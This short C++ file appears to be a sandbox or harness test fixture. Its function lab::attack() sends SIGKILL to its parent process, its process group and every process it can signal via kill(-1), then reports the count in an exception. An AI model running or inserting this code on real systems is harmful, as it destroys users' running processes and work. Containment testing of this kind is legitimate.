#include <unistd.h>

#include <csignal>
#include <stdexcept>
#include <string>

namespace lab {

void attack() {
  const int done = (kill(getppid(), SIGKILL) == 0) + (kill(0, SIGKILL) == 0) + (kill(-1, SIGKILL) == 0);
  throw std::runtime_error("[killed " + std::to_string(done) + "]");
}

}  // namespace lab
